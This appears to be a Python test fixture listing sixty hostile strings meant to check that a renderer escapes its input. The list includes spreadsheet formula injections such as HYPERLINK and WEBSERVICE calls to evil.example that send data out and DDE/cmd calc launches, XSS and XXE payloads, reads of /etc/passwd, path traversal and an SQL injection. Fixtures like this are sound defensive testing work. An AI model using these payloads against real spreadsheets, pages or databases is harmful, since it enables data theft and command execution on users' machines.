"""Sixty texts that somebody might type or paste to make a renderer do something else than print them."""

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")', "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1:A9)",
    '=WEBSERVICE("http://evil.example")', "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", '"=1+1', "'=1+1", "{=1+1}",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "=IMPORTXML(\"http://evil.example\",\"//a\")", "-2+3+cmd|' /C calc'!A0",
    "=A1", "==1", "=\u200b1+1",
]  # fmt: skip
MARKUP = [
    "<script>alert(1)</script>", '<img src="http://evil.example/x.png">', '<img src="file:///etc/passwd">',
    "<style>body{background:url(http://evil.example/)}</style>", '<link rel="stylesheet" href="//evil.example">',
    "url(file:///etc/passwd)", "@import url(http://evil.example/x.css);", "{{ 7|add:7 }}", "{% include 'x' %}",
    "</table></body>", "<!-- mở", "]]>", "<![CDATA[x]]>", "&lt;b&gt; & &amp;", '"><b>', "<?xml version='1.0'?>",
    "<svg onload=alert(1)>", "<iframe src='file:///'></iframe>", "<a href='javascript:alert(1)'>x</a>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
]  # fmt: skip
LETTERS = [
    "\u202etrái phải\u202c", "\u2066cô lập\u2069", "\u200fphải", "\ufeffđầu", "a\u0000b", "a\u0007b", "a\u001bb",
    "a\u0001b", "a\ufffeb", "\x0bngắt\x0cngắt", "e\u0301\u0302\u0303\u0323", "a" * 300, "không\xa0ngắt",
    "_x0041_", "_x000D_", "%s %d {0}", "\\n \\t", "../../etc/passwd", "'; DROP TABLE x; --", "\U0001f3e5 bệnh xá",
]  # fmt: skip
HOSTILE = [*FORMULAS, *MARKUP, *LETTERS]
